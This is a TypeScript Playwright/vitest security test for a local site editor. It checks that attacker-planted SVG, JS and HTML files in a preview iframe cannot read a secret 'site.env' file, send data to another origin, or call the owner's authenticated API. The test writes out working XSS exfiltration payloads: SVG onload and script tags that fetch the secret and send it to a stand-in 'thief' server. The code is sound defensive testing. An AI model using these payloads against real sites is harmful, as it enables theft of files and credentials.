import { writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { freePort } from '@lintel/engine/command/port.ts'
import { findHeadlessBrowser } from '@lintel/lab/findBrowser.ts'
import { projectCopy } from '@lintel/lab/projectCopy.ts'
import { type Browser, type BrowserContext, chromium, type Page } from '@playwright/test'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { startDesk } from '#tests/desk/startDesk.ts'

/** Content that somebody else has made, in the owner's window: it reads files there, and sends them away. */
const copy = projectCopy()
const secret = 'nobody-reads-this'
const stolen: string[] = []
const thief = createServer((request, response) => {
  stolen.push(request.url ?? '')
  response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end()
})
let desk: Awaited<ReturnType<typeof startDesk>>
let browser: Browser
let context: BrowserContext
let window: Page
let frameOrigin = ''
let elsewhere = ''

beforeAll(async () => {
  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve))
  elsewhere = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`
  writeFileSync(join(copy.folder, 'site.env'), secret)
  const code = `fetch('/site.env').then((r) => r.text()).then((t) => fetch('${elsewhere}/script?' + t)); new Image().src = '${elsewhere}/image'`
  const images = join(copy.folder, 'content/blog/images')
  writeFileSync(
    join(images, 'drawn.svg'),
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" width="10" height="10" onload="${code}"><h:script>${code}</h:script><script>${code}</script><script href="drawn.js"/><image href="${elsewhere}/inside"/></svg>`,
  )
  writeFileSync(join(images, 'drawn.js'), code)
  writeFileSync(join(images, 'page.html'), `<script>${code}</script>`)
  desk = await startDesk(copy.folder, await freePort())
  browser = await chromium.launch({ executablePath: findHeadlessBrowser(), args: ['--no-sandbox'] })
  context = await browser.newContext()
  window = await context.newPage()
  // As the owner opens it: the file leads to the window.
  await window.goto(desk.file)
  await window.frameLocator('iframe').getByRole('main').waitFor({ timeout: 200_000 })
  const { protocol, hostname, port } = new URL(window.url())
  frameOrigin = `${protocol}//${hostname}:${Number(port) + 1}`
})
afterAll(async () => {
  await browser?.close()
  await desk?.kill()
  thief.close()
  copy.remove()
})

const frame = () => {
  const result = window.frames().find((each) => each.url().startsWith(frameOrigin))
  if (!result) throw new Error('The window has no frame.')
  return result
}

test.each(['drawn.svg', 'drawn.js', 'page.html', 'drawn.svg?raw', 'drawn.svg?import'])(
  'a link to %s in the frame leads to a page, and runs nothing',
  async (name) => {
    const path = `/content/blog/images/${name}`
    const [answer] = await Promise.all([
      window.waitForResponse((response) => response.url() === frameOrigin + path),
      frame().evaluate((to) => location.assign(to), path),
    ])
    expect(answer.headers()['content-type']).toMatch(/^text\/html/)
    await window.frameLocator('iframe').getByRole('heading', { level: 1 }).waitFor()
    expect(await frame().content()).not.toContain(secret)
    expect(stolen).toEqual([])
  },
)

test('nor does it in a tab of its own', async () => {
  const tab = await context.newPage()
  await tab.goto(`${frameOrigin}/content/blog/images/drawn.svg`)
  expect(await tab.title()).not.toBe('')
  expect(stolen).toEqual([])
  await tab.close()
})

test('a script that stands in the frame nevertheless reads no file, and reaches no other place', async () => {
  await window.goto(new URL('/pages', window.url()).href)
  await window.frameLocator('iframe').getByRole('main').waitFor()
  const message = await frame().evaluate(
    async ([elsewhere, windowOrigin]) => {
      const outcome = (work: Promise<unknown>) => work.then(String, () => 'refused')
      const loaded = (src: string) =>
        new Promise((resolve, reject) => {
          const image = new Image()
          image.onload = resolve
          image.onerror = reject
          image.src = src
        })
      return {
        file: await outcome(fetch('/site.env').then((response) => response.text())),
        sent: await outcome(fetch(`${elsewhere}/sent`)),
        beacon: navigator.sendBeacon(`${elsewhere}/beacon`),
        image: await outcome(loaded(`${elsewhere}/image`)),
        action: await outcome(
          fetch(`${windowOrigin}/api/enquiries/list`, {
            method: 'POST',
            credentials: 'include',
            headers: { 'Content-Type': 'application/json' },
            body: '{}',
          }),
        ),
        inline: (() => {
          const script = document.createElement('script')
          try {
            script.textContent = 'globalThis.ran = true'
          } catch {
            return 'refused'
          }
          document.head.append(script)
          return 'ran' in globalThis ? 'ran' : 'refused'
        })(),
      }
    },
    [elsewhere, new URL(window.url()).origin],
  )
  expect(message.file).not.toContain(secret)
  expect(message).toMatchObject({ sent: 'refused', image: 'refused', action: 'refused', inline: 'refused' })
  expect(stolen).toEqual([])
})

test('the window works meanwhile', async () => {
  await window.getByRole('link', { name: /^Claims/ }).click()
  await window.getByRole('heading', { level: 1, name: 'Claims' }).waitFor()
  await window.reload()
  await window.getByRole('heading', { level: 1, name: 'Claims' }).waitFor()
  await expect.poll(() => window.getByRole('alert').count()).toBe(0)
})
